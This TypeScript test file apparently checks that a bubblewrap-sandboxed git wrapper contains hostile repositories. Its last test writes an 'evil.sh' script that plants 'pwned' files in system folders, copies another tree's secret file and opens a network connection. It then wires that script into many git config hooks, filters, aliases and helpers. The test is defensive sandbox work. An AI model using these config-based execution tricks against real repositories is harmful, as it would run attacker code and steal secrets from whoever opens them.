import { createServer } from "node:net";
import { once } from "node:events";
import { chmod, readdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { commit, git as hostGit, makeRepository } from "../__fixtures__/repository.ts";
import { hasBubblewrap, openRig, type Rig } from "../__fixtures__/rig.ts";
import { SandboxedGit } from "./SandboxedGit.ts";

describe.skipIf(!hasBubblewrap())("git on a work tree", () => {
  let rig: Rig;
  let git: SandboxedGit;
  beforeAll(async () => {
    rig = await openRig();
    git = new SandboxedGit({ sandbox: rig.sandbox });
  });
  afterAll(() => rig.close());

  async function treeOf(files: Readonly<Record<string, string>>): Promise<string> {
    const tree = await rig.tree();
    await makeRepository(tree, files);
    await rig.sandbox.adoptTree(tree);
    return tree;
  }

  it("reads as git does, odd names included, and takes no lock", async () => {
    const tree = await treeOf({ "a b.txt": "one\n", "naïve\ttab": "x" });
    await writeFile(path.join(tree, "a b.txt"), "two\n");
    const { stdout } = await git.read(tree, ["status", "--porcelain=v2", "-z"]);
    expect(stdout.toString()).toMatch(/^1 \.M N\.\.\. 100644 100644 100644 [0-9a-f]{40} [0-9a-f]{40} a b\.txt\0$/);
    expect((await git.read(tree, ["log", "--format=%an %s"])).stdout.toString()).toBe("Somebody First\n");
    await expect(git.read(tree, ["add", "--all"])).rejects.toMatchObject({ code: "git_failed", message: expect.stringContaining("Read-only file system") });
  });

  it("writes what the project's own programs and the product can go on with", async () => {
    const tree = await treeOf({ "a.txt": "one\n" });
    await rig.sh("echo two > b.txt", { tree: { path: tree, access: "write" } });
    await git.write(tree, ["add", "--all"]);
    await git.write(tree, ["commit", "--message", "Second"], { env: { GIT_AUTHOR_NAME: "A", GIT_AUTHOR_EMAIL: "a@example.com", GIT_COMMITTER_NAME: "B", GIT_COMMITTER_EMAIL: "b@example.com" } });
    expect(await hostGit(tree, "log", "--format=%an %cn %s", "-1")).toBe("A B Second\n");
    expect((await rig.sh("git status --porcelain && git log --oneline | wc -l", { tree: { path: tree, access: "write" } })).stdout).toBe("2\n");
  });

  it("gives input, and takes other exit codes for answers", async () => {
    const tree = await treeOf({ "a.txt": "one\n", ".gitignore": "*.log\n" });
    expect((await git.read(tree, ["check-ignore", "-z", "--stdin"], { stdin: "x.log\0a.txt\0", accept: [0, 1] })).stdout.toString()).toBe("x.log\0");
    expect(await git.read(tree, ["check-ignore", "a.txt"], { accept: [0, 1] })).toMatchObject({ exitCode: 1 });
  });

  it("fails in git's own words", async () => {
    const tree = await treeOf({ "a.txt": "one\n" });
    await expect(git.read(tree, ["show", "nowhere"])).rejects.toMatchObject({ code: "git_failed", kind: "invalid", message: expect.stringMatching(/^fatal: ambiguous argument 'nowhere'/) });
    await expect(git.read(await rig.tree(), ["status"])).rejects.toMatchObject({ code: "git_failed", message: expect.stringContaining("not a git repository") });
    await expect(git.read(tree, ["log", "--format=%n".repeat(100)], { maxOutputBytes: 50 })).rejects.toMatchObject({ code: "git_output_too_large", kind: "too_large" });
    await expect(git.read(tree, ["-c", "alias.wait=!sleep 60", "wait"], { timeoutSeconds: 0.3 })).rejects.toMatchObject({ code: "git_timeout", kind: "timeout" });
  });

  it("lets nothing that a repository makes git run reach anything outside", { timeout: 60_000 }, async () => {
    const listener = createServer(() => undefined).listen(0, "127.0.0.1");
    await once(listener, "listening");
    let connections = 0;
    listener.on("connection", () => (connections += 1));
    const address = listener.address();
    const port = typeof address === "object" && address !== null ? address.port : 0;
    const other = await treeOf({ "secret.txt": "of somebody else\n" });
    const tree = await treeOf({ "a.txt": "one\n", "b.bin": "b\n", "script.js": "" });
    await commit(tree, { ".gitattributes": "*.txt filter=evil diff=evil\n*.bin filter=proc\n", "a.txt": "two\n" }, "Attributes");
    // Writes wherever it may, says that it ran (in /tmp, whose writes are lost; in the tree where it can), and calls out.
    const evil = path.join(tree, "evil.sh");
    const targets = ["/tmp", "/etc", "/root", "/var/tmp", rig.data, path.join(rig.data, "workspaces"), other, process.cwd(), path.dirname(rig.data)];
    await writeFile(evil, `#!/bin/sh\nfor d in ${targets.map((each) => `'${each}'`).join(" ")}; do echo "$0 $*" > "$d/pwned-$$" 2>/dev/null; done
secret=$(cat '${other}/secret.txt' 2>/dev/null) && echo "$secret" > /workspace/stolen
echo ran >> /workspace/ran 2>/dev/null
node -e 'require("net").connect(${port},"127.0.0.1").on("error",()=>{})' </dev/null >/dev/null 2>&1
case "$1" in clean|smudge) cat;; diff) echo external diff;; pager) cat;; esac\n`);
    await chmod(evil, 0o755);
    const command = "/workspace/evil.sh";
    for (const [key, value] of Object.entries({
      "core.fsmonitor": `${command} fsmonitor`, "core.sshCommand": `${command} ssh`, "core.hooksPath": "/workspace/hooks", "core.pager": `${command} pager`, "core.editor": `${command} editor`,
      "filter.evil.clean": `${command} clean`, "filter.evil.smudge": `${command} smudge`, "filter.proc.process": `${command} process`, "filter.proc.required": "false",
      "diff.external": `${command} diff`, "diff.evil.textconv": `${command} textconv`, "diff.evil.command": `${command} diff`, "alias.status": `!${command} alias`, "alias.mine": `!${command} alias`,
      "credential.helper": `!${command} credential`, "gpg.program": `${command} gpg`, "uploadpack.packObjectsHook": `${command} hook`, "core.gitProxy": `${command} proxy`, "interactive.diffFilter": `${command} filter`,
    })) await hostGit(tree, "config", key, value);
    await rig.sh("mkdir hooks; for h in post-checkout pre-commit post-index-change reference-transaction; do cp evil.sh hooks/$h; done", { tree: { path: tree, access: "write" } });
    await rig.sandbox.adoptTree(tree);
    await writeFile(path.join(tree, "a.txt"), "three\n");
    await writeFile(path.join(tree, "b.bin"), "changed\n");

    for (const args of [["status", "--porcelain=v2", "-z"], ["diff"], ["diff", "--ext-diff", "--textconv"], ["log", "-p", "--ext-diff"], ["show", "--textconv"], ["-p", "log"], ["mine"]]) {
      await git.read(tree, args, { accept: [0, 1, 128] });
    }
    expect(await readdir(tree)).not.toContain("ran");
    await git.write(tree, ["add", "--all"], { accept: [0, 128] });
    await git.write(tree, ["checkout", "--", "a.txt"], { accept: [0, 1, 128] });
    await git.write(tree, ["fetch", "ssh://localhost/x"], { accept: [0, 128] });

    // It did run, or this would prove nothing.
    expect(await readdir(tree)).toContain("ran");
    expect(await readdir(tree)).not.toContain("stolen");
    const found = await Promise.all(targets.map(async (folder) => (await readdir(folder).catch(() => [])).filter((name) => name.startsWith("pwned-"))));
    expect(found.flat()).toEqual([]);
    expect((await readdir(other)).toSorted()).toEqual([".git", "secret.txt"]);
    expect(connections).toBe(0);
    listener.close();
  });
});
